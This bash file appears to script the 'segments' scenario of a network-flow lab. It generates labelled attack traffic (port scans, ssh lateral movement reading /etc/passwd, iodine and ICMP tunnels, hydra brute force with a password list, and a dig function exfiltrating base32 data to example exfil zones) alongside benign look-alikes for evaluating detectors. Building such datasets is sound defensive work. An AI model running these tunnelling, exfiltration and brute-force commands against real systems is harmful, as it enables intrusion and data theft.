# The "segments" scenario of scripts/record-flow-lab.sh (sourced by it; not run on its own):
# four VMs whose traffic crosses VM to VM (an app server and its database), benign look-alikes
# of every attack (periodic database connections, health checks, DNS blocklist lookups, MTU
# pings), and attack segments made with real tools. Two takes with different tools, rates and
# targets: take a tunes, take b is kept for evaluation (docs/flow-lab.md).

# name ip mac-suffix seed ntp-period ssh download-MB
SEGMENT_VMS=(
  "app01 10.77.0.20 20 201 64 0 0"
  "db01 10.77.0.21 21 202 32 0 0"
  "mail01 10.77.0.22 22 203 64 0 0"
  "ops01 10.77.0.23 23 204 64 1 0"
)
APP=0 DB=1 MAIL=2 OPS=3

# Servers inside the VMs and the tunnel ends outside. Called after the lab's own servers.
segments_servers() {
  local take=$1
  # sshd in app01 and db01 (the lateral-movement targets), with the lab's key.
  for i in $APP $DB; do
    sed "s|^PidFile .*|PidFile $work/sshd-vm$i.pid|" "$work/sshd_config" >"$work/sshd_config.vm$i"
    bg ip netns exec "$(vm_ns $i)" /usr/sbin/sshd -D -e -f "$work/sshd_config.vm$i"
  done
  bg ip netns exec "$(vm_ns $APP)" python3 "$lab/servers.py" http --bind 10.77.0.20 --port 80
  # PostgreSQL in db01: a table the app queries; password (scram) logins from the VM network.
  chmod 755 "$work"
  local pg=/usr/lib/postgresql/15/bin
  install -d -o postgres -g postgres "$work/pg" "$work/pgsock"
  echo app-secret >"$work/pgpass" && chown postgres "$work/pgpass"
  runuser -u postgres -- "$pg/initdb" -D "$work/pg/data" -A scram-sha-256 --pwfile="$work/pgpass" -U postgres >/dev/null
  echo "host all all 10.77.0.0/24 scram-sha-256" >>"$work/pg/data/pg_hba.conf"
  bg ip netns exec "$(vm_ns $DB)" runuser -u postgres -- "$pg/postgres" -D "$work/pg/data" \
    -c listen_addresses=10.77.0.21 -c unix_socket_directories="$work/pgsock" -c log_min_messages=fatal
  for _ in $(seq 1 40); do [ -S "$work/pgsock/.s.PGSQL.5432" ] && break; sleep 0.5; done
  PGPASSWORD=app-secret runuser -u postgres -- psql -q -h "$work/pgsock" -U postgres -c "create user app password 'app-secret'" \
    -c "create database appdb owner app" >/dev/null
  PGPASSWORD=app-secret runuser -u postgres -- psql -q -h "$work/pgsock" -U app -d appdb \
    -c "create table orders (id serial primary key, total numeric, created timestamptz default now())" >/dev/null
  # Tunnel ends in the "internet": iodined behind the resolver's delegation, a ptunnel-ng proxy.
  if [ "$take" = a ]; then
    bg ip netns exec "$I" iodined -f -c -P tunnel-pw -l 198.51.100.54 -p 53 10.53.0.1/27 t1.example.net
    bg ip netns exec "$I" ptunnel-ng -r203.0.113.70 -R7777 -v 0
  fi
  # Sinks for what the tunnels carry.
  [ "$take" = b ] || bg ip netns exec "$I" bash -c 'for _ in $(seq 1 40); do ip addr show dns0 2>/dev/null | grep -q 10.53.0.1 && break; sleep 0.5; done; exec ncat -lk 10.53.0.1 7777 --recv-only >/dev/null'
  bg ip netns exec "$I" bash -c 'exec ncat -lk 203.0.113.70 7777 --recv-only >/dev/null'
}

# Benign look-alikes: app01 → db01 queries, the host's health checks and pings, mail01's lookups.
segments_benign() {
  local take=$1 scale
  [ "$take" = a ] && scale=1 || scale=0.7
  bg ip netns exec "$(vm_ns $APP)" bash "$lab/vm-role.sh" app 301 "$scale" "$work"
  bg ip netns exec "$(vm_ns $MAIL)" bash "$lab/vm-role.sh" mail 302 "$scale" "$work"
  bg ip netns exec "$H" bash "$lab/vm-role.sh" healthcheck 303 "$scale" "$work" 10.77.0.20 10.77.0.21 10.77.0.22 10.77.0.23
}

ssh_as() { # ssh_as NS TARGET COMMAND: a key-authenticated session (the lab's key: a stolen one)
  ip netns exec "$1" ssh -q -i "$work/client_key" -o BatchMode=yes -o StrictHostKeyChecking=no \
    -o UserKnownHostsFile=/dev/null "root@$2" "$3" >/dev/null 2>&1 || true
}

# DNS exfiltration with dig: the data in base32 labels, one query (and one dig, a new source
# port) each, through RESOLVER. seg_dig_exfil NS RESOLVER BYTES LABELS PAUSE_S ZONE
seg_dig_exfil() {
  local ns=$1 resolver=$2 bytes=$3 labels=$4 pause=$5 zone=$6 data i=0 name chunk
  data=$(head -c "$bytes" /dev/urandom | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')
  while [ -n "$data" ]; do
    name=""
    for ((l = 0; l < labels; l++)); do
      chunk=${data:0:52}; data=${data:52}
      [ -n "$chunk" ] && name="$name$chunk."
    done
    i=$((i + 1))
    ip netns exec "$ns" dig +tries=1 +time=1 @"$resolver" "${name}$i.$zone" TXT >/dev/null 2>&1 || true
    sleep "$pause"
  done
}

segments_attacks() {
  local take=$1 s e ops app
  ops=$(vm_ns $OPS) app=$(vm_ns $APP)
  if [ "$take" = a ]; then
    sleep_until 40; s=$(now)
    inns "$ops" nmap -n -sS -p 22,80,443,445,3389,5432,8080,9100 --max-rate 100 10.77.0.16/28 >"$work/nmap-local.txt" 2>&1 || true
    e=$(now); record_attack port-scan $OPS 10.77.0.16/28 "$s" "$e" "nmap -sS" "SYN scan of 8 ports over the VMs' /28 (host discovery on)"
    sleep_until 85; s=$(now)
    ssh_as "$ops" 10.77.0.21 'uname -a; id; ls /etc; sleep 4'
    e=$(now); record_attack lateral $OPS 10.77.0.21:22 "$s" "$e" ssh "key-authenticated ssh session to db01, which ops01 never reached before"
    sleep_until 110; s=$(now)
    # iodine through the VM's resolver (dnsmasq delegates t1.example.net to iodined), 60 s of data.
    bg ip netns exec "$ops" iodine -f -P tunnel-pw -r 10.77.0.1 t1.example.net
    for _ in $(seq 1 40); do inns "$ops" ip addr show dns0 2>/dev/null | grep -q 10.53.0 && break; sleep 0.5; done
    head -c 3000000 /dev/urandom | timeout 60 ip netns exec "$ops" ncat 10.53.0.1 7777 >/dev/null 2>&1 || true
    kill -TERM -- "-${pgroups[-1]}" 2>/dev/null || true
    e=$(now); record_attack dns-tunnel $OPS 10.77.0.1:53 "$s" "$e" "iodine 0.7.0" "IP over DNS through the VM's resolver (dnsmasq → iodined), 60 s of random data"
    sleep_until 175; s=$(now)
    inns "$ops" nmap -n -sT -p 1-1024 -Pn --max-rate 200 203.0.113.50 >"$work/nmap-inet.txt" 2>&1 || true
    e=$(now); record_attack port-scan $OPS 203.0.113.50 "$s" "$e" "nmap -sT" "connect scan of ports 1-1024 of an internet host, two minutes after the local scan"
    sleep_until 240; s=$(now)
    bg ip netns exec "$ops" ptunnel-ng -p203.0.113.70 -l2222 -r203.0.113.70 -R7777 -v 0
    sleep 2
    head -c 4000000 /dev/urandom | timeout 60 ip netns exec "$ops" ncat 127.0.0.1 2222 >/dev/null 2>&1 || true
    kill -TERM -- "-${pgroups[-1]}" 2>/dev/null || true
    e=$(now); record_attack icmp-tunnel $OPS 203.0.113.70 "$s" "$e" "ptunnel-ng 1.41" "TCP over ICMP echo to a ptunnel-ng proxy, 60 s of random data"
    sleep_until 330; s=$(now)
    printf '%s\n' root admin ubuntu deploy >"$work/users.txt"
    printf '%s\n' 123456 password admin root toor qwerty letmein changeme 12345678 welcome \
      passw0rd abc123 master dragon monkey shadow sunshine trustno1 iloveyou football >"$work/passwords.txt"
    (cd "$work" && timeout 150 ip netns exec "$ops" hydra -I -L users.txt -P passwords.txt -t 4 -w 10 ssh://198.51.100.22 >"$work/hydra.txt" 2>&1) || true
    e=$(now); record_attack brute-force $OPS 198.51.100.22:22 "$s" "$e" "hydra 9.4 ssh" "4 users x 20 wrong passwords, 4 tasks; sshd MaxAuthTries 3"
    sleep_until 470; s=$(now)
    ssh_as "$ops" 10.77.0.20 'cat /etc/hostname; ps'
    e=$(now); record_attack lateral $OPS 10.77.0.20:22 "$s" "$e" ssh "key-authenticated ssh session to app01, first contact"
  else
    sleep_until 40; s=$(now)
    inns "$ops" nmap -n -sT --top-ports 25 --max-rate 150 10.77.0.0/27 >"$work/nmap-local.txt" 2>&1 || true
    e=$(now); record_attack port-scan $OPS 10.77.0.0/27 "$s" "$e" "nmap -sT" "connect scan of the top 25 ports over 10.77.0.0/27 (host discovery on)"
    sleep_until 90; s=$(now)
    seg_dig_exfil "$app" 10.77.0.1 24000 3 0.15 x.exfil.example.org
    e=$(now); record_attack dns-tunnel $APP 10.77.0.1:53 "$s" "$e" dig "24 kB as base32 in 3 labels of 52 per TXT query, one dig each, through the resolver"
    sleep_until 165; s=$(now)
    inns "$ops" nmap -n -sS -p 1-1024 -Pn --max-rate 300 198.51.100.40 >"$work/nmap-inet.txt" 2>&1 || true
    e=$(now); record_attack port-scan $OPS 198.51.100.40 "$s" "$e" "nmap -sS" "SYN scan of ports 1-1024 of an internet host, two minutes after the local scan"
    sleep_until 215; s=$(now)
    inns "$ops" ping -q -c 240 -i 0.25 -s 1100 -p "$(head -c 16 /dev/urandom | od -An -tx1 | tr -d ' \n')" 192.0.2.123 >/dev/null 2>&1 || true
    e=$(now); record_attack icmp-tunnel $OPS 192.0.2.123 "$s" "$e" "ping -s 1100" "240 echo requests of 1100 payload bytes at 4/s (data in the payload)"
    sleep_until 290; s=$(now)
    # Wait on the clients only: a bare `wait` would wait on the lab's servers too, forever.
    local pids=()
    for k in $(seq 1 240); do
      ip netns exec "$ops" ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o PreferredAuthentications=password -o ConnectTimeout=5 "user$((k % 7))@203.0.113.65" true >/dev/null 2>&1 &
      pids+=($!)
      if [ $((k % 4)) = 0 ]; then wait "${pids[@]}"; pids=(); fi
    done
    e=$(now); record_attack brute-force $OPS 203.0.113.65:22 "$s" "$e" "ssh client x240" "240 ssh logins that fail (no usable method), 4 at a time"
    sleep_until 390; s=$(now)
    ssh_as "$ops" 10.77.0.21 'uname -a; cat /etc/passwd'
    ssh_as "$ops" 10.77.0.21 'ls /tmp'
    e=$(now); record_attack lateral $OPS 10.77.0.21:22 "$s" "$e" ssh "two key-authenticated ssh sessions to db01, first contact"
    sleep_until 450; s=$(now)
    seg_dig_exfil "$app" 198.51.100.53 6000 2 0.1 y.exfil.example.org
    e=$(now); record_attack dns-tunnel $APP 198.51.100.53:53 "$s" "$e" dig "6 kB as base32 in 2 labels per query straight to an outside DNS server, not the VM's resolver"
  fi
}
